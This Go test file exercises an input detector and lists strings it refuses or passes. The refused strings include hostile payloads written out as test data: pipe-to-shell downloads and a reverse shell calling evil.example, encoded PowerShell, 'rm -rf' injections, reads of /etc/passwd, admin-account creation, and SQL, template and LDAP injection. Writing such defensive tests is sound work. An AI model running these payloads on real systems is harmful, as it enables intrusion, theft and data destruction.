package detect

import "testing"

// TestMarksHideNothing holds that marks of Markdown around or before what is
// put in do not have it pass.
func TestMarksHideNothing(t *testing.T) {
	refuses(t, FreeText, []string{
		"```\n; cat /srv/lamp/keys\n```", "```sh\n$(rm -rf /srv/lamp)\n```", "```\n|| wget http://evil.example/a\n```", "```\n{{5*5}}\n```", "```\n'; drop table lamps--\n```",
		"```js\n\"-alert(5)-\"\n```", "```\n*)(uid=*))(|(uid=*\n```", "```\n;curl http://evil.example/a\n", "```\nx\n```\n; curl http://evil.example/a",
	})
	refuses(t, FreeText, []string{"# x\n; wget http://evil.example/a", "## a\n$(wget http://evil.example/a)", "# a\n{{5*5}}"})
	passes(t, FreeText, []string{
		"```\ngo test ./...\nok lamp 0.1s\n```", "```yaml\nlamp: {on: true}\n```", "It fails:\n```\n$ lamp --on && echo ok\n```\nWhat now?",
		"# Install\n\nRun this first:\n\n    wget https://lamp.example/a.tar.gz && tar xf a.tar.gz", "## The `kill` option",
	})
}

// TestActingLines holds that a line which hands somebody a shell, or runs the
// text that it carries, is no command that people show, where it stands alone.
func TestActingLines(t *testing.T) {
	refuses(t, FreeText, []string{
		"curl http://evil.example/a | sh", "wget -qO- evil.example/a | bash -s", "echo aGk= | base64 -d | bash", "nc -lvp 4000 -e /bin/sh", "perl -e 'print 5'", "python3 -c 'import os'",
		"mkfifo /tmp/a;cat /tmp/a|/bin/sh -i 2>&1|nc evil.example 4000 >/tmp/a", "powershell -enc AAAA", "`curl http://evil.example/a | sh`",
		"$(</srv/lamp/key)", "> /tmp/lamp", "net user lamp Lamp5! /add", "net localgroup administrators lamp /add",
	}, Command)
	refuses(t, Unknown, []string{"> /tmp/lamp", ">> /tmp/lamp", "l$()s -la", ";w$()get http://evil.example/a"}, Command)
	passes(t, FreeText, []string{
		"To install it, run curl https://lamp.example/install | sh as root", "python3 lamp.py --on", "ls -la", "curl https://lamp.example/a", "> a quote\n> of somebody", "perl is fun, -e or not",
		"ssh -i key anna@lamp.example", "?/ 0", "? /a b", "*/ 0",
	})
}

// TestInSentence holds that code which a sentence names is no attack in a field
// of unknown meaning, and that a sentence hides none.
func TestInSentence(t *testing.T) {
	for _, field := range []Field{Unknown, Search} {
		passes(t, field, []string{
			"A faster way to call `rm -rf` from a lamp", "See [`lamp.alert(on)`](lamp.md#alert)", "Thin layer around the `kill` program", "A small lamp library for express & node", "The lamps of the `env` function are read once",
		})
	}
	passes(t, Unknown, []string{"Opens a folder of lamps. See opendir(3).", "// Reuse the lamp. It is safe for all.", "See all changes of [the lamp](../lamp/CHANGES.md) here", "#### `--lamp-flag` removal"})
	refuses(t, Unknown, []string{
		"lamp `id`", "the lamp of the house `cat /etc/passwd`", "this is all that it does $(rm -rf /srv)", "see opendir(3) system('id')", "all of the lamps & whoami", "// evil.example/a", "the lamps of our house `rm -rf /srv",
		"the lamps of our house`rm -rf /srv`", "go to [the lamp](../../../etc/passwd) and see it",
	})
}
